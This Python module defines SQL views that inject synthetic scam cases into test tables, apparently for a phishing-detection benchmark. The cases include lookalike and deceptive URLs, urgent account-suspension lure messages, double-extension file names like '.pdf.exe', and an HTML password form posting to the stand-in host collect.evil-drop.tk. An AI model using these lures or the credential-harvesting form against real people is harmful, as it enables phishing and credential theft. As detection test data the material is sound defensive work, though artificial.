"""Derived input tables, as SQL that Spark and DuckDB both run.

The tables at hand hold no scam material, so each view injects its positive cases
by row id. ``text_of`` hands the same text to the SQL that states a query.
"""

from __future__ import annotations

import re
import tempfile
import uuid

from pyspark.sql import DataFrame, SparkSession

BASE_TABLES = ("region", "nation", "customer", "supplier", "part", "orders", "lineitem", "events", "documents", "embeddings", "pages", "benchmark", "labels", "conversations")

VIEWS = {
    "links": """
select page_id as link_id,
       case cast(page_id % 12 as int)
         when 0 then concat('http://203.0.113.', cast(page_id % 250 as string), '/login')
         when 1 then concat('http://ababank.com@evil', cast(page_id as string), '.tk/verify-account')
         when 2 then concat('https://www.faceb00k.com/p/', cast(page_id as string))
         when 3 then concat('ababamk.com/secure/', cast(page_id as string))
         when 4 then concat('https://bit.ly/', cast(page_id as string))
         when 5 then concat('https://paypal-account-update-', cast(page_id as string), '.info/confirm')
         when 6 then concat('https://xn--pypal-4ve.com/', cast(page_id as string))
         when 7 then concat('https://www.facebook.com/groups/', cast(page_id as string))
         when 8 then concat('http://a.b.c.d.cellcard-bonus', cast(page_id as string), '.ml/free/gift')
         when 9 then concat('https://x7k2qz9w4v', cast(page_id as string), '.com/')
         when 10 then concat('https://long.example.org/', repeat('a', 80), '/', cast(page_id as string))
         else url end as raw_url,
       case when page_id % 17 = 0 then 'https://ababank.com'
            when page_id % 17 = 1 then 'click here' end as display_text
from pages
""",
    "messages": """
select c.conv_id * 1000 + c.turn as message_id,
       c.conv_id as user_id,
       case when (c.conv_id + c.turn) % 5 = 0
            then concat('Your account will be suspended in 24 hours unless you verify your information immediately. Ref ', cast(c.conv_id as string))
            when (c.conv_id + c.turn) % 5 = 1
            then concat('ref', cast(c.conv_id as string), ' free bitcoin ', c.text)
            else coalesce(c.text, '') end as body,
       case when (c.conv_id + c.turn) % 11 = 0 then concat('http//', replace(replace(coalesce(l.raw_url, ''), 'https://', ''), 'http://', ''))
            else coalesce(l.raw_url, '') end as link_text
from (select t.*, n_links from conversations t cross join (select count(*) as n_links from pages)) c
left join links l on l.link_id = (c.conv_id * 7 + c.turn) % c.n_links and c.turn % 3 <> 2
union all
select 999999999999 + link_id, link_id, '', raw_url from links
""",
    "page_obs": """
select page_id, url,
       concat(html,
         case when page_id % 9 = 0 then '<form method="post" action="https://collect.evil-drop.tk/p"><input type="password" name="p"></form>'
              when page_id % 9 = 1 then '<form action="/login"><input type="password" name="p"></form>'
              else '' end,
         case when page_id % 7 = 0 then '<p>ababank. Log on to ababank online banking. ababank verify your account now.</p>'
              when page_id % 7 = 1 then '<p>ababank news. ababank review. ababank story.</p>'
              else '' end) as html,
       case when page_id % 6 = 0 then concat('https://landing', cast(page_id as string), '.gq/claim') else url end as final_url,
       cast(page_id % 6 as int) as hops,
       cast(case when page_id % 13 = 0 then 404 else 200 end as int) as status
from pages
""",
    "link_intel": """
select page_id as link_id,
       case when page_id % 5 = 0 then null else cast((page_id * 37) % 800 as int) end as domain_age_days,
       case when page_id % 4 = 0 then null else cast((page_id * 13) % 90 as int) end as cert_age_days,
       case when page_id % 10 = 3 then cast(0 as int) else cast(1 + page_id % 3 as int) end as n_ips,
       cast(case when page_id % 8 < 6 then page_id % 8 else 0 end as int) as vt_malicious,
       cast(case when page_id % 8 = 6 then 1 else 0 end as int) as vt_suspicious,
       cast(case when page_id % 8 = 7 then 0 else 70 end as int) as vt_total,
       page_id % 19 = 0 as vt_unavailable
from pages
""",
    "files": """
select doc_id as file_id,
       concat('invoice', cast(doc_id as string),
         case cast(doc_id % 10 as int)
           when 0 then '.pdf.exe' when 1 then '.xlsx.z' when 2 then '.pdf' when 3 then '.apk'
           when 4 then '.csv.gz'  when 5 then '.tar.gz' when 6 then '.JPG.scr' when 7 then ''
           when 8 then '.docx'    else '.pdf.zip' end) as file_name,
       n_chars * 20000 as size_bytes,
       doc_id % 3 <> 0 as checked,
       doc_id % 3 = 1 as found,
       cast(case when doc_id % 3 = 1 then (doc_id * 7) % 14 else 0 end as int) as malicious,
       md5(text) as digest
from documents
""",
    "archive_entries": """
select d.doc_id as file_id, e.i as entry_no,
       concat(case when d.doc_id % 4 = 0 then 'dir/' else '' end, 'entry', cast(e.i as string),
         case cast((d.doc_id + e.i) % 9 as int)
           when 0 then '.pdf.exe' when 1 then '.exe' when 2 then '.txt' else '.docx' end) as entry_name,
       (d.doc_id + e.i) % 23 = 0 as encrypted
from documents d
cross join (select 0 as i union all select 1 union all select 2 union all select 3) e
where d.doc_id % 3 = 0 and e.i <= d.doc_id % 4
""",
    "usage_requests": """
select event_id as request_id, user_id, ts,
       case when event_type = 'purchase' then 'file' else 'link' end as kind,
       cast(floor(value * 10) as bigint) as tokens,
       event_id % 10 = 0 as trusted_shape
from events
""",
    "backend_failures": """
select event_id, ts,
       case cast(user_id % 3 as int) when 0 then 'Gemini' when 1 then 'VirusTotal' else 'Supabase' end as service
from events
where event_type = 'error'
""",
    "link_checks": """
select event_id as check_id, ts, event_id % 40 as link_id
from events
where event_type in ('click', 'view')
""",
    "link_scans": """
select e.event_id as scan_id, e.ts, p.page_id as link_id
from events e
join pages p on p.page_id = e.event_id % 250
where e.event_type in ('click', 'view')
""",
    "log_lines": """
select event_id,
       case when event_id % 4 = 0 then concat('2024-01-02T00:00:00Z INFO x: [oversize-file] reason=',
                 case when event_id % 8 = 0 then 'too_large' else 'failed' end, ' size=',
                 case cast(event_id % 3 as int) when 0 then '20-50MB' when 1 then '50-200MB' else 'unknown' end,
                 ' disguised=', case when event_id % 5 = 0 then 'True' else 'False' end,
                 case when event_id % 28 = 0 then ' name=leak.pdf' else '' end)
            else concat('2024-01-02T00:00:00Z INFO x: ', event_type) end as line
from events
""",
    "model_verdicts": """
select conv_id * 1000 + turn as message_id,
       case cast((conv_id + turn) % 3 as int) when 0 then 'Not a Scam' when 1 then 'Scam' else 'Uncertain' end as verdict,
       cast((conv_id * 31 + turn * 17) % 101 as int) as risk_percentage
from conversations
""",
    "hidden_links": """
select m.message_id, l.display_text, l.raw_url
from messages m
join links l on l.link_id = m.message_id % 200
where l.display_text is not null
""",
    "message_text": """
select message_id, user_id, trim(concat(body, ' ', link_text)) as text from messages
""",
}
_NAMES = re.compile(r"\b(from|join)\s+(" + "|".join([*BASE_TABLES, *VIEWS]) + r")\b")


def needs(sql: str) -> list[str]:
    """Views that a statement reads, each after those it reads itself."""
    found: list[str] = []
    for _, name in _NAMES.findall(sql):
        if name in VIEWS and name not in found:
            found += [v for v in needs(VIEWS[name]) if v not in found] + [name]
    return found


def text_of(sql: str) -> str:
    """``sql`` with the views it reads in front, for an engine that has the base tables."""
    views = [f"{name} as ({VIEWS[name].strip()})" for name in needs(sql)]
    if not views:
        return sql
    own = re.match(r"\s*with\s+(recursive\s+)?", sql)
    head = f"with {own[1] if own and own[1] else ''}" + ", ".join(views)
    return f"{head}, {sql[own.end():]}" if own else f"{head} {sql}"


def shared_folder(spark: SparkSession) -> str:
    """A new folder that all executors see: below the checkpoint folder, or in local mode a temporary one."""
    sc = spark.sparkContext
    base = sc.getConf().get("spark.checkpoint.dir")
    if base is None and not sc.master.startswith("local"):
        raise ValueError("set spark.checkpoint.dir to a folder that all executors share")
    return f"{base or tempfile.mkdtemp(prefix='spark-shared-')}/run-{uuid.uuid4().hex}"


def kept(df: DataFrame) -> DataFrame:
    """Write ``df`` to a shared folder and go on from what was written: lineage is cut, and a size is known."""
    path = shared_folder(df.sparkSession)
    df.write.parquet(path)
    return df.sparkSession.read.schema(df.schema).parquet(path)


class Tables:
    """Base tables and views of one input folder, as DataFrames."""

    def __init__(self, spark: SparkSession, folder: str) -> None:
        self.spark, self.folder = spark, folder
        self._known: dict[str, DataFrame] = {}

    def __getitem__(self, name: str) -> DataFrame:
        if name not in self._known:
            self._known[name] = self.sql(VIEWS[name]) if name in VIEWS else self.spark.read.parquet(f"{self.folder}/{name}.parquet")
        return self._known[name]

    def sql(self, text: str) -> DataFrame:
        """A statement whose table names stand for this folder's tables."""
        used = {name for _, name in _NAMES.findall(text)}
        text = _NAMES.sub(lambda m: f"{m[1]} {{{m[2]}}}", text)
        return self.spark.sql(text, **{name: self[name] for name in used})
